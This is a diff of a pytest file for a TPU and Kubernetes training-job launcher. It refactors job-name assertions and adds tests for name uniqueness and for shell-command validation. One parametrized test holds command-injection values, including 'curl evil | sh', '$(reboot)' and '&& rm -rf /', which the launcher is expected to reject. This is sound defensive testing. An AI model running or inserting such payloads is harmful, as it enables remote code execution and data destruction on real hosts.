@@ -5,6 +5,7 @@ and the rendered manifests checked against the Kubernetes and JobSet schemas."""
 from __future__ import annotations
 
 import json
+import re
 import signal
 import subprocess
 from pathlib import Path
@@ -21,6 +22,11 @@ from diloco.flows import tpu
 DATA = Path(__file__).parent / "data"
 GCLOUD = json.loads((DATA / "gcloud-queued-resources.json").read_text())
 K8S = "1.33"  # the GKE minor the manifests are checked against
+
+
+def N(job: str) -> str:
+    """The name the backends give job `job` of the regional config's run."""
+    return tpu.job_name(regional_config(), job)
 
 
 def regional_config(eu_learners=1, **backend):
@@ -108,23 +114,23 @@ def test_every_kubectl_call_goes_to_its_regions_cluster_and_namespace(tmp_path):
         backends[region].stop_all()
     calls = [a for a, _ in kubectl.calls]
     assert calls == [
-        [*home, "delete", "jobset", "dl-prod-run-7-syncer", "--ignore-not-found", "--wait=true"],
+        [*home, "delete", "jobset", N("syncer"), "--ignore-not-found", "--wait=true"],
         [*home, "apply", "-f", "-"],
-        [*home, "get", "jobset", "dl-prod-run-7-syncer", "-o", "json"],
-        [*us, "delete", "jobset", "dl-prod-run-7-us-0", "--ignore-not-found", "--wait=true"],
+        [*home, "get", "jobset", N("syncer"), "-o", "json"],
+        [*us, "delete", "jobset", N("us-0"), "--ignore-not-found", "--wait=true"],
         [*us, "apply", "-f", "-"],
-        [*us, "get", "jobset", "dl-prod-run-7-us-0", "-o", "json"],
-        [*eu, "delete", "jobset", "dl-prod-run-7-eu-0", "--ignore-not-found", "--wait=true"],
+        [*us, "get", "jobset", N("us-0"), "-o", "json"],
+        [*eu, "delete", "jobset", N("eu-0"), "--ignore-not-found", "--wait=true"],
         [*eu, "apply", "-f", "-"],
-        [*eu, "get", "jobset", "dl-prod-run-7-eu-0", "-o", "json"],
-        [*us, "delete", "jobset", "dl-prod-run-7-us-0", "--ignore-not-found", "--wait=false"],
+        [*eu, "get", "jobset", N("eu-0"), "-o", "json"],
+        [*us, "delete", "jobset", N("us-0"), "--ignore-not-found", "--wait=false"],
         # stop_all: each region's learners in its own cluster, then the syncer (only what has no region)
         [*us, "delete", "jobset", "-l", "diloco/run=prod_Run-7,diloco/region=us", "--ignore-not-found", "--timeout=10s"],
         [*eu, "delete", "jobset", "-l", "diloco/run=prod_Run-7,diloco/region=eu", "--ignore-not-found", "--timeout=10s"],
         [*home, "delete", "jobset", "-l", "diloco/run=prod_Run-7,!diloco/region", "--ignore-not-found", "--timeout=10s"],
     ]
     applied = {m["metadata"]["name"]: m for a, m in kubectl.calls if m}
-    assert [applied[f"dl-prod-run-7-{n}"]["metadata"]["namespace"] for n in ("syncer", "us-0", "eu-0")] == \
+    assert [applied[N(n)]["metadata"]["namespace"] for n in ("syncer", "us-0", "eu-0")] == \
         ["pretrain", "train-us", "pretrain"]
     assert backends["us"].jobs["us-0"].log == "kubectl logs -l diloco/job=us-0 --context gke_acme-train_us-east5_train-us -n train-us"
 
@@ -222,7 +228,7 @@ def test_a_tpu_vm_learner_waits_for_its_slice_runs_on_every_host_and_gives_the_s
     assert jobs.poll("eu-0") is None                    # running: the ssh's state, no gcloud call
     procs[0].rc = 0
     assert jobs.poll("eu-0") == 0 and jobs.poll("eu-0") == 0
-    node = "dl-prod-run-7-eu-0"
+    node = N("eu-0")
     describe = ["gcloud", "compute", "tpus", "queued-resources", "describe", node, *EU, "--format=json"]
     assert gcloud.calls == [
         ["gcloud", "compute", "tpus", "queued-resources", "create", node, f"--node-id={node}", *EU,
@@ -235,7 +241,7 @@ def test_a_tpu_vm_learner_waits_for_its_slice_runs_on_every_host_and_gives_the_s
     ssh = procs[0].argv
     assert ssh[:9] == ["gcloud", "compute", "tpus", "tpu-vm", "ssh", node, "--worker=all", *EU] and ssh[9] == "--command"
     assert ssh[10] == ("sudo docker rm -f diloco >/dev/null 2>&1; sudo docker run --rm --name diloco --privileged "
-                       "--net=host -v $HOME/diloco-config.yaml:/cfg/config.yaml:ro -v /mnt/corpus:/mnt/corpus:ro "
+                       "--net=host -v \"$HOME\"/diloco-config.yaml:/cfg/config.yaml:ro -v /mnt/corpus:/mnt/corpus:ro "
                        "us-docker.pkg.dev/my-project/diloco/diloco:latest diloco learner --config /cfg/config.yaml "
                        "--learner eu-0 --corpus /mnt/corpus --start-step 40")
     assert procs[0].kw["stdin"] == subprocess.DEVNULL and procs[0].kw["stderr"] == subprocess.STDOUT
@@ -263,7 +269,7 @@ def test_a_refused_request_is_not_retried_and_fails_the_job_with_gclouds_reason(
     jobs.start("eu-0", ARGV)
     assert len(gcloud.calls) == 1 and clock.slept == []
     assert jobs.poll("eu-0") == 1 and len(gcloud.calls) == 1  # nothing to read or release
-    assert f"queued resource refused: `gcloud compute tpus queued-resources create dl-prod-run-7-eu-0` failed: " \
+    assert f"queued resource refused: `gcloud compute tpus queued-resources create {N('eu-0')}` failed: " \
            f"ERROR: (gcloud.compute.tpus.queued-resources.create) {words}" in jobs.tail("eu-0")
     jobs.stop_all()
     assert len(gcloud.calls) == 1  # it never held a slice
@@ -307,7 +313,7 @@ def test_sigterm_stops_the_container_and_then_releases_the_slice_sigkill_release
     jobs.start("eu-0", ARGV)
     jobs.poll("eu-0")
     jobs.signal("eu-0", signal.SIGTERM)
-    assert gcloud.calls[-1] == ["gcloud", "compute", "tpus", "tpu-vm", "ssh", "dl-prod-run-7-eu-0", "--worker=all", *EU,
+    assert gcloud.calls[-1] == ["gcloud", "compute", "tpus", "tpu-vm", "ssh", N("eu-0"), "--worker=all", *EU,
                                 "--command", "sudo docker kill --signal=TERM diloco"]
     assert jobs.poll("eu-0") is None  # handing in
     procs[0].rc = 0
@@ -327,7 +333,7 @@ def test_stop_all_tries_every_slice_and_says_which_were_not_deleted(tmp_path):
     jobs.start("eu-1", ARGV)
     with pytest.raises(RuntimeError, match=r"not deleted, delete them by hand: eu-0: .*INVALID_ARGUMENT"):
         jobs.stop_all()
-    assert [c[5] for c in gcloud.calls if c[4] == "delete"] == ["dl-prod-run-7-eu-0", "dl-prod-run-7-eu-1"]
+    assert [c[5] for c in gcloud.calls if c[4] == "delete"] == [N("eu-0"), N("eu-1")]
 
 
 def test_tpu_vm_runs_learners_by_gcloud_and_the_syncer_in_the_home_cluster(tmp_path):
@@ -384,3 +390,34 @@ def test_the_schemas_catch_a_broken_jobset(path, value, words):
                                                 registry=k8s_registry())
     with pytest.raises(jsonschema.ValidationError, match=words):
         validator.validate(doc)
+
+
+def test_job_names_are_unique_and_valid_labels_by_construction():
+    """dl-<run id>-<learner> cut to 63 characters gave us-0 and us-1 of a 35-character run one JobSet
+    (starting one deleted the other's); us_east and us-east collided too."""
+    from diloco.flows.tpu import JOB_NAME_CHARS, job_name
+    dns = re.compile(r"^[a-z]([-a-z0-9]*[a-z0-9])?$")
+    cfg = build_config({"run": {"id": "a-very-long-run-name-for-a-big-job-20261202-101010-abcd"},
+                        "regions": [{"name": "us_east", "learners": 2}, {"name": "us-east", "learners": 2}]})
+    names = [job_name(cfg, n) for n in [*cfg.learner_ids(), *cfg.syncer_ids(), "config"]]
+    assert len(set(names)) == len(names)
+    assert all(dns.match(n) and len(n) <= JOB_NAME_CHARS and len(f"{n}-slice-0-0") <= 63 for n in names), names
+    assert job_name(cfg, "us-east-0") == job_name(cfg, "us-east-0")          # stable: a restart finds its job
+
+
+@pytest.mark.parametrize("key, value", [("corpus_dir", "/data/x; curl evil | sh"), ("config_dir", "$(reboot)"),
+                                        ("image", "img:latest && rm -rf /"), ("corpus_dir", "relative/path")])
+def test_what_reaches_a_tpu_vms_root_shell_is_validated(key, value):
+    """corpus_dir, config_dir and image went unquoted into a root ssh command with docker --privileged."""
+    with pytest.raises(ConfigError, match=f"backend.{key}"):
+        regional_config(kind="tpu-vm", **{key: value})
+
+
+def test_the_tpu_vm_command_quotes_every_argument():
+    import shlex
+    cfg = regional_config(kind="tpu-vm")
+    cmds = tpu.queued_resource_commands(cfg, "eu-0", ["learner", "--config", "x", "--learner", "eu-0", "--corpus", "y"],
+                                        "/tmp/c.yaml")
+    words = shlex.split(cmds["run"][-1].split("; ", 1)[1])
+    assert words[-8:] == ["diloco", "learner", "--config", "/cfg/config.yaml", "--learner", "eu-0", "--corpus",
+                          "/mnt/corpus"]
